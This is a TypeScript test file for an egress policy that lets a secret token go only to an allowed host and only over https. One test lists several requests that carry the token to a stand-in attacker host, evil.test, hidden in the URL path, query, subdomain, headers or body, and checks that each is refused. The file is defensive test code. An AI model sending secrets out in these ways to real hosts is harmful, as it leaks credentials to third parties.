// What may go to some hosts only, and where it may stand in a request.
import { describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { expect } from "vitest"
import type { Confined } from "../src/Confined.ts"
import type { Call } from "../src/Egress.ts"
import { Egress } from "../src/Egress.ts"
import type { Exception } from "../src/Policy.ts"
import { openWeb } from "../src/Policy.ts"
import type { Resolver } from "../src/Resolve.ts"
import * as LocalServer from "./LocalServer.ts"

const token: Confined = {
  name: "token",
  mayGoTo: ({ hostname }) => hostname === "good.test",
  occursIn: (text) => text.includes("hunter22"),
}

/** What was looked up, and how a call ended: its status or why it was refused. */
const outcomeOf = Effect.fnUntraced(function* (
  call: Partial<Call> & Pick<Call, "url">,
  allow: ReadonlyArray<Exception> = [{ cidr: "127.0.0.0/8" }],
) {
  const looked: Array<string> = []
  const resolve: Resolver = (name) =>
    Effect.sync(() => {
      looked.push(name)
      return ["127.0.0.1"]
    })
  const allowed = { ...openWeb, allow }
  const answer = yield* Egress.use((egress) =>
    egress.request({ method: "POST", confined: [token], ...call }),
  ).pipe(
    Effect.map(({ status }) => String(status)),
    Effect.catch(({ message }) => Effect.succeed(message)),
    Effect.provide(Egress.layer(allowed, resolve)),
  )
  return { answer, looked }
})

describe("Egress.request, of what may go to some hosts only", () => {
  it.live("sends it there, wherever it stands", () =>
    Effect.gen(function* () {
      const server = yield* LocalServer.http((_, response) => response.end())
      const { answer } = yield* outcomeOf({
        url: `http://good.test:${server.port}/hunter22?q=hunter22`,
        headers: { "x-token": "hunter22" },
        body: "hunter22",
      })
      expect(answer).toBe("200")
    }),
  )

  it.live("refuses it elsewhere before anything is looked up, wherever it stands", () =>
    Effect.gen(function* () {
      let requests = 0
      const server = yield* LocalServer.http((_, response) => {
        requests += 1
        response.end()
      })
      const url = `http://evil.test:${server.port}/`
      const calls: ReadonlyArray<Partial<Call> & Pick<Call, "url">> = [
        { url: `${url}hunter22` },
        { url: `${url}?q=hunter22` },
        { url: `http://hunter22.evil.test:${server.port}/` },
        { url, headers: { "x-token": "Bearer hunter22" } },
        { url, headers: { hunter22: "yes" } },
        { url, body: '{"token":"hunter22"}' },
        { url, body: new TextEncoder().encode("\u00ffhunter22") },
        { url, body: Uint8Array.from([255, 200, ...Buffer.from("hunter22"), 255]) },
      ]
      for (const call of calls) {
        const { answer, looked } = yield* outcomeOf(call)
        const where = call.url.includes("hunter22") ? "this address" : new URL(url).host
        expect(answer).toBe(`The secret "token" may not go to ${where}`)
        expect(looked).toEqual([])
      }
      expect((yield* outcomeOf({ url, body: "nothing" })).answer).toBe("200")
      expect(requests).toBe(1)
    }),
  )

  it.live("sends it over https only, unless the operator allows the network", () =>
    Effect.gen(function* () {
      const refusal =
        'The secret "token" may go over https, or to networks that the operator allows'
      const body = "hunter22"
      const named = yield* outcomeOf({ url: "http://good.test/", body }, [])
      expect(named).toEqual({ answer: refusal, looked: [] })
      const elsewhere = [{ cidr: "10.0.0.0/8" }]
      const resolved = yield* outcomeOf({ url: "http://good.test/", body }, elsewhere)
      expect(resolved).toEqual({ answer: refusal, looked: ["good.test"] })
      // Without a secret, or over https, the address is what is judged.
      const notPublic = "The URL does not lead to a public address"
      expect((yield* outcomeOf({ url: "http://good.test/" }, [])).answer).toBe(notPublic)
      const secure = yield* outcomeOf({ url: "https://good.test/", body }, [])
      expect(secure).toEqual({ answer: notPublic, looked: ["good.test"] })
    }),
  )
})
